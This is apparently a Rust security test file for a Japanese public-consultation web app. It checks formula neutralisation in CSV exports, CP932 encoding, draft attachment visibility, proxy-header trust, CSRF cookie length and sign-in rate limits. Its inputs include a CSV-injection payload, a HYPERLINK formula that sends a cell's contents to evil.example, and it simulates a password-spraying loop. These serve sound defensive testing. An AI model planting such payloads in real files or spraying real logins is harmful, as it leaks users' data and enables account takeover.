//! What outside clients and fault tests found (issue 10): CSV cells that spreadsheets ran as
//! formulas, CP932 read by Python's own codec, a draft's files opened by staff, forwarded
//! headers believed without a proxy, a 3-character CSRF cookie, and a sign-in limit that
//! locked out a whole office behind one address.

use crate::support::attachments::{hrefs, pdf, upload};
use crate::support::consultations::{create_december, jst};
use crate::support::db::count;
use crate::support::http::{cookie_value, set_cookie};
use crate::support::people::{department, resident, responsible, reviewer, staff_member, PASSWORD};
use crate::support::proposals::{act, draft};
use crate::support::{run, visible_text, TestApp, Visitor};
use diesel::prelude::*;
use kyodo::auth::rate_limit::{SIGN_IN_FAILURES_PER_ACCOUNT, SIGN_IN_FAILURES_PER_ADDRESS};
use kyodo::web::csv::{encode, Encoding};
use std::io::Write;
use std::process::{Command, Stdio};

pub const TESTS: &[(&str, fn())] = &[
    (
        "hardening_security::csv_exports_neutralise_formulas_in_both_encodings",
        csv_exports_neutralise_formulas_in_both_encodings,
    ),
    (
        "hardening_security::csv_cp932_is_what_pythons_codec_reads",
        csv_cp932_is_what_pythons_codec_reads,
    ),
    (
        "hardening_security::attachments_of_a_draft_are_hidden_from_staff_until_submitted",
        attachments_of_a_draft_are_hidden_from_staff_until_submitted,
    ),
    (
        "hardening_security::forwarded_proto_counts_only_behind_the_proxy",
        forwarded_proto_counts_only_behind_the_proxy,
    ),
    (
        "hardening_security::a_short_csrf_cookie_is_refused",
        a_short_csrf_cookie_is_refused,
    ),
    (
        "hardening_security::accounts_sign_in_limits_fit_a_shared_address",
        accounts_sign_in_limits_fit_a_shared_address,
    ),
];

/// Runs a Python script on `input` and returns what it prints.
fn python(script: &str, args: &[&str], input: &[u8]) -> String {
    let mut child = Command::new("python3")
        .arg("-c")
        .arg(script)
        .args(args)
        .stdin(Stdio::piped())
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .expect("python3 runs");
    child.stdin.take().unwrap().write_all(input).unwrap();
    let out = child.wait_with_output().unwrap();
    assert!(
        out.status.success(),
        "python3: {}",
        String::from_utf8_lossy(&out.stderr)
    );
    String::from_utf8(out.stdout).unwrap()
}

/// The rows of a CSV file as Python's `csv` module reads it, decoded strictly with `codec`.
pub(crate) fn rows_by_python(bytes: &[u8], codec: &str) -> Vec<Vec<String>> {
    const PARSE: &str = "import csv, io, json, sys\n\
        text = sys.stdin.buffer.read().decode(sys.argv[1])\n\
        print(json.dumps(list(csv.reader(io.StringIO(text, newline='')))))";
    serde_json::from_str(&python(PARSE, &[codec], bytes)).unwrap()
}

/// Every cell a spreadsheet would run as a formula (OWASP's first characters).
fn formulas(rows: &[Vec<String>]) -> Vec<&String> {
    rows.iter()
        .flatten()
        .filter(|cell| cell.starts_with(['=', '+', '-', '@', '\t', '\r']))
        .collect()
}

/// Downloads `path` and checks its content type.
async fn csv_file(visitor: &Visitor, path: &str, charset: &str) -> Vec<u8> {
    let response = visitor.get(path).await;
    assert_eq!(response.status(), 200, "{path}");
    assert_eq!(
        response.headers()["content-type"],
        format!("text/csv; charset={charset}").as_str(),
        "{path}"
    );
    response.bytes().await.unwrap().to_vec()
}

const HYPERLINK: &str = "=HYPERLINK(\"http://evil.example/?q=\"&B2,\"詳細\")";

/// A published result with one item whose every text starts a formula.
async fn published_result(app: &TestApp, admin: &Visitor) {
    let dept = department(app, "企画課");
    app.clock.set(jst(2026, 11, 30, 12, 0, 0));
    create_december(admin, dept).await;
    app.clock.set(jst(2026, 12, 2, 10, 0, 0));
    let work = "/staff/consultations/1";
    let paper = admin
        .submit(
            work,
            "/staff/consultations/1/comments",
            &[
                ("channel", "paper"),
                ("received_on", "2026-12-02"),
                ("body", "-駐輪場を増やしてください。"),
                ("name", "児玉一郎"),
                ("address", "本庄市児玉町99"),
            ],
        )
        .await;
    assert_eq!(paper.status(), 303);
    app.clock.set(jst(2026, 12, 31, 10, 0, 0));
    let item = admin
        .submit(
            work,
            "/staff/consultations/1/items",
            &[
                ("receipts", "PC-2026-0001-000001"),
                ("summary", HYPERLINK),
                ("response", "+市の考え方〜‖¬∥￢"),
                ("changed", "yes"),
                ("change", "@修正 😀"),
            ],
        )
        .await;
    assert_eq!(item.status(), 303);
    let published = admin
        .submit(work, "/staff/consultations/1/publish", &[])
        .await;
    assert_eq!(published.status(), 303);
}

fn csv_exports_neutralise_formulas_in_both_encodings() {
    run(async {
        let app = TestApp::start().await;
        let admin = staff_member(&app, "admin@example.jp", "管理者", &[("admin", None)]).await;
        let hanako = app.visitor();
        resident(&app, &hanako, "hanako@example.jp", "@SUM(1+1)").await;
        for title in ["=1+1 駅前の花壇", "-5℃の朝も〜‖¬∥￢ 😀"] {
            let id = draft(&hanako, title, "5-1").await;
            assert_eq!(act(&hanako, &id, "submit").await.status(), 303);
        }
        published_result(&app, &admin).await;

        // The staff's proposals: UTF-8 with BOM, then CP932 under each of its names.
        let utf8 = csv_file(&admin, "/staff/proposals.csv", "utf-8").await;
        let rows = rows_by_python(&utf8, "utf-8-sig");
        assert_eq!(rows.len(), 3, "{rows:?}");
        assert_eq!(rows[1][2], "'=1+1 駅前の花壇");
        assert_eq!(rows[1][6], "'@SUM(1+1)");
        assert_eq!(rows[2][2], "'-5℃の朝も〜‖¬∥￢ 😀");
        assert!(formulas(&rows).is_empty(), "{:?}", formulas(&rows));
        for name in ["cp932", "windows-31j", "shift_jis"] {
            let path = format!("/staff/proposals.csv?encoding={name}");
            let cp932 = csv_file(&admin, &path, "windows-31j").await;
            let rows = rows_by_python(&cp932, "cp932");
            assert_eq!(rows.len(), 3, "{name}");
            assert_eq!(rows[1][2], "'=1+1 駅前の花壇");
            assert_eq!(rows[1][6], "'@SUM(1+1)");
            // The JIS forms come back as Windows holds them; only the emoji is lost.
            assert_eq!(rows[2][2], "'-5℃の朝も～∥￢∥￢ ?", "{name}");
            assert!(formulas(&rows).is_empty(), "{name}: {:?}", formulas(&rows));
        }

        // The published result, for anyone.
        let visitor = app.visitor();
        let utf8 = csv_file(&visitor, "/consultations/1/result.csv", "utf-8").await;
        let rows = rows_by_python(&utf8, "utf-8-sig");
        let quoted = format!("'{HYPERLINK}");
        assert_eq!(
            rows[1],
            ["1", &quoted, "'+市の考え方〜‖¬∥￢", "有", "'@修正 😀"]
        );
        assert!(formulas(&rows).is_empty(), "{:?}", formulas(&rows));
        let cp932 = csv_file(
            &visitor,
            "/consultations/1/result.csv?encoding=cp932",
            "windows-31j",
        )
        .await;
        let rows = rows_by_python(&cp932, "cp932");
        assert_eq!(
            rows[1],
            ["1", &quoted, "'+市の考え方～∥￢∥￢", "有", "'@修正 ?"]
        );
        assert!(formulas(&rows).is_empty(), "{:?}", formulas(&rows));

        // Both pages offering the files say what CP932 loses, in Japanese and in English.
        let staff_page = admin.page("/staff/proposals").await;
        assert!(staff_page.contains("href=\"/staff/proposals.csv?encoding=cp932\""));
        assert!(visible_text(&staff_page)
            .contains("CP932 にない文字（絵文字、一部のまれな漢字など）は「?」になります"));
        let result = app.page("/consultations/1/result").await;
        assert!(result.contains("href=\"/consultations/1/result.csv?encoding=cp932\""));
        assert!(visible_text(&result)
            .contains("CP932 にない文字（絵文字、一部のまれな漢字など）は「?」になります"));
        let english = app.get_in("en", "/consultations/1/result").await;
        let english = visible_text(&english.text().await.unwrap());
        assert!(
            english.contains("characters CP932 cannot hold (emoji, some rare kanji) become “?”"),
            "{english}"
        );
    })
}

/// Every Unicode scalar value through the writer, each read back by Python's `cp932` codec:
/// what the codec holds comes back as it reads it (the JIS forms it maps included), four more
/// come back in their Windows form, and only the rest becomes `?`. Python alone also reads
/// the lone bytes A0, FD–FF as U+F8F0–U+F8F3; Microsoft's table (CP932.TXT) has no such
/// characters, so they are `?` too.
fn csv_cp932_is_what_pythons_codec_reads() {
    const CHECK: &str = "import sys\n\
        windows_forms = {0x2014: 0x2015, 0xA6: 0xFFE4, 0xA5: 0xFFE5, 0x203E: 0xFFE3}\n\
        outside_the_table = range(0xF8F0, 0xF8F4)\n\
        bad = []\n\
        for line in sys.stdin:\n\
        \x20   cp, ours = line.split()\n\
        \x20   cp = int(cp, 16)\n\
        \x20   try:\n\
        \x20       expected = '?' if cp in outside_the_table else chr(cp).encode('cp932').decode('cp932')\n\
        \x20   except UnicodeEncodeError:\n\
        \x20       expected = chr(windows_forms.get(cp, 0x3F))\n\
        \x20   got = bytes.fromhex(ours).decode('cp932')\n\
        \x20   if got != expected:\n\
        \x20       bad.append('U+%04X: %r, not %r' % (cp, got, expected))\n\
        print(len(bad), *bad[:20], sep='\\n')";
    let mut lines = String::new();
    let mut buffer = [0u8; 4];
    for c in (0..=0x10FFFF).filter_map(char::from_u32) {
        let bytes = encode(c.encode_utf8(&mut buffer), Encoding::Cp932);
        let hex: String = bytes.iter().map(|b| format!("{b:02x}")).collect();
        lines.push_str(&format!("{:x} {hex}\n", u32::from(c)));
    }
    let report = python(CHECK, &[], lines.as_bytes());
    assert_eq!(report.lines().next(), Some("0"), "{report}");
}

fn attachments_of_a_draft_are_hidden_from_staff_until_submitted() {
    run(async {
        let app = TestApp::start().await;
        responsible(&app);
        let reviewer = reviewer(&app).await;
        let admin = staff_member(&app, "admin@example.jp", "管理者", &[("admin", None)]).await;
        let hanako = app.visitor();
        resident(&app, &hanako, "hanako@example.jp", "本庄花子").await;
        let id = draft(&hanako, "河川敷の清掃と生きもの観察会", "5-1").await;
        assert_eq!(
            upload(&hanako, &id, "計画書.pdf", &pdf()).await.status(),
            303
        );
        let url = hrefs(&hanako.page(&format!("/proposals/{id}/edit")).await)[0].clone();
        assert_eq!(hanako.get(&url).await.status(), 200, "the author");
        for (who, staff) in [("a reviewer of 5-1", &reviewer), ("an admin", &admin)] {
            let draft_page = staff.get(&format!("/proposals/{id}")).await;
            assert_eq!(draft_page.status(), 404, "{who}: the draft");
            assert_eq!(staff.get(&url).await.status(), 404, "{who}: its file");
        }
        assert_eq!(act(&hanako, &id, "submit").await.status(), 303);
        for (who, staff) in [("a reviewer of 5-1", &reviewer), ("an admin", &admin)] {
            let file = staff.get(&url).await;
            assert_eq!(file.status(), 200, "{who}, once submitted");
            assert!(file.bytes().await.unwrap().starts_with(b"%PDF-"));
        }
    })
}

fn is_secure(cookie: &str) -> bool {
    cookie
        .split(';')
        .any(|part| part.trim().eq_ignore_ascii_case("secure"))
}

/// Opens the sign-in form and signs in, every request claiming HTTPS: whether the CSRF cookie,
/// the HSTS header and the session cookie followed the claim.
async fn signs_in_claiming_https(app: &TestApp) -> (bool, bool, bool) {
    let visitor = app.visitor();
    resident(app, &visitor, "hanako@example.jp", "本庄花子").await;
    let form = app
        .client
        .get(app.url("/login"))
        .header("x-forwarded-proto", "https")
        .send()
        .await
        .unwrap();
    let hsts = form.headers().contains_key("strict-transport-security");
    let csrf_cookie = set_cookie(&form, "kyodo_csrf");
    let token = cookie_value(&form, "kyodo_csrf");
    let signed_in = app
        .client
        .post(app.url("/login"))
        .header("x-forwarded-proto", "https")
        .header("cookie", format!("kyodo_csrf={token}"))
        .form(&[
            ("csrf", token.as_str()),
            ("email", "hanako@example.jp"),
            ("password", PASSWORD),
        ])
        .send()
        .await
        .unwrap();
    assert_eq!(signed_in.status(), 303);
    (
        is_secure(&csrf_cookie),
        hsts,
        is_secure(&set_cookie(&signed_in, "kyodo_session")),
    )
}

fn forwarded_proto_counts_only_behind_the_proxy() {
    run(async {
        let direct = TestApp::start().await;
        assert_eq!(
            signs_in_claiming_https(&direct).await,
            (false, false, false),
            "anyone may send X-Forwarded-Proto: without KYODO_TRUST_PROXY it is not believed"
        );
        drop(direct);
        let proxied = TestApp::start_with(|state| state.trust_proxy = true).await;
        assert_eq!(
            signs_in_claiming_https(&proxied).await,
            (true, true, true),
            "behind the proxy: Secure cookies and HSTS"
        );
    })
}

fn a_short_csrf_cookie_is_refused() {
    run(async {
        let app = TestApp::start().await;
        let visitor = app.visitor();
        resident(&app, &visitor, "hanako@example.jp", "本庄花子").await;
        let sign_in = |token: String| {
            app.client
                .post(app.url("/login"))
                .header("cookie", format!("kyodo_csrf={token}"))
                .form(&[
                    ("csrf", token.as_str()),
                    ("email", "hanako@example.jp"),
                    ("password", PASSWORD),
                ])
                .send()
        };
        // A matching pair of 3 characters (easy to plant) is refused before anything is done.
        let short = sign_in("abc".into()).await.unwrap();
        assert_eq!(short.status(), 403);
        assert!(visible_text(&short.text().await.unwrap()).contains("ページを読み込み直して"));
        assert_eq!(
            count(
                &app,
                "SELECT count(*) AS n FROM sessions s JOIN accounts a ON a.id = s.account_id WHERE a.email = 'hanako@example.jp'"
            ),
            1,
            "no session but the one from signing up"
        );
        // The same with a whole token is accepted; a page replaces the short cookie with one.
        let whole = sign_in(kyodo::tokens::new_secret()).await.unwrap();
        assert_eq!(whole.status(), 303);
        let page = app
            .client
            .get(app.url("/login"))
            .header("cookie", "kyodo_csrf=abc")
            .send()
            .await
            .unwrap();
        let fresh = cookie_value(&page, "kyodo_csrf");
        assert!(kyodo::tokens::is_secret(&fresh), "{fresh}");
    })
}

/// `n` verified accounts `member{i}@example.jp` with `PASSWORD`, made in SQL.
fn members(app: &TestApp, n: i32) {
    diesel::sql_query(
        "INSERT INTO accounts (id, email, email_verified_at, display_name, unsubscribe_token, password_hash)
         SELECT gen_random_uuid(), 'member' || i || '@example.jp', now(), '職員' || i, 'unsub-' || i, $1
         FROM generate_series(1, $2) i",
    )
    .bind::<diesel::sql_types::Text, _>(kyodo::auth::password::hash(PASSWORD))
    .bind::<diesel::sql_types::Integer, _>(n)
    .execute(&mut app.db())
    .unwrap();
}

/// Waits, if need be, for a fresh window of the sign-in limits (fixed windows on PostgreSQL's
/// clock): counts that reset halfway would make the test fail for no fault of the app.
async fn a_fresh_window_if_this_one_ends_soon(app: &TestApp) {
    #[derive(QueryableByName)]
    struct Left {
        #[diesel(sql_type = diesel::sql_types::Double)]
        seconds: f64,
    }
    let window = SIGN_IN_FAILURES_PER_ADDRESS.window_secs;
    assert_eq!(window, SIGN_IN_FAILURES_PER_ACCOUNT.window_secs);
    let left: Left =
        diesel::sql_query("SELECT ($1 - mod(extract(epoch FROM now()), $1))::float8 AS seconds")
            .bind::<diesel::sql_types::Integer, _>(window)
            .get_result(&mut app.db())
            .unwrap();
    if left.seconds < 180.0 {
        actix_web::rt::time::sleep(std::time::Duration::from_secs_f64(left.seconds + 1.0)).await;
    }
}

async fn sign_in_as(visitor: &Visitor, email: &str, password: &str) -> u16 {
    visitor
        .submit(
            "/login",
            "/login",
            &[("email", email), ("password", password)],
        )
        .await
        .status()
        .as_u16()
}

fn accounts_sign_in_limits_fit_a_shared_address() {
    run(async {
        let app = TestApp::start().await;
        members(&app, 53);
        a_fresh_window_if_this_one_ends_soon(&app).await;
        // Fifty people at one workshop, one address (every request here comes from 127.0.0.1),
        // every fifth mistyping once: all sign in, past the old limit of 30 per address.
        let mut failures = 0;
        for i in 1..=50 {
            let person = app.visitor();
            let email = format!("member{i}@example.jp");
            if i % 5 == 0 {
                assert_eq!(sign_in_as(&person, &email, "typo-kawa-2026").await, 400);
                failures += 1;
            }
            assert_eq!(sign_in_as(&person, &email, PASSWORD).await, 303, "{email}");
        }
        // One account is still locked after its own limit, even for the right password…
        let guesser = app.visitor();
        for _ in 0..SIGN_IN_FAILURES_PER_ACCOUNT.max {
            let status = sign_in_as(&guesser, "member51@example.jp", "guess-kawa-2026").await;
            assert_eq!(status, 400, "a wrong password");
            failures += 1;
        }
        let locked = app.visitor();
        assert_eq!(
            sign_in_as(&locked, "member51@example.jp", PASSWORD).await,
            429
        );
        // … while the others at that address go on signing in.
        assert_eq!(
            sign_in_as(&locked, "member52@example.jp", PASSWORD).await,
            303
        );
        // A sprayer trying one password on many accounts is stopped by the address's budget
        // of failures, and then even a right password from that address waits.
        let sprayer = app.visitor();
        let csrf = crate::support::csrf_of(&sprayer.page("/login").await);
        let mut sprayed = 0;
        let stopped = loop {
            let email = format!("sprayed{sprayed}@example.jp");
            let response = sprayer
                .post(
                    "/login",
                    &[
                        ("csrf", csrf.as_str()),
                        ("email", email.as_str()),
                        ("password", "Spring2026!"),
                    ],
                )
                .await;
            if response.status() != 400 || sprayed > SIGN_IN_FAILURES_PER_ADDRESS.max {
                break response;
            }
            sprayed += 1;
        };
        assert_eq!(stopped.status(), 429);
        assert!(stopped.headers().contains_key("retry-after"));
        assert_eq!(sprayed + failures, SIGN_IN_FAILURES_PER_ADDRESS.max);
        assert_eq!(
            sign_in_as(&app.visitor(), "member53@example.jp", PASSWORD).await,
            429
        );
    })
}
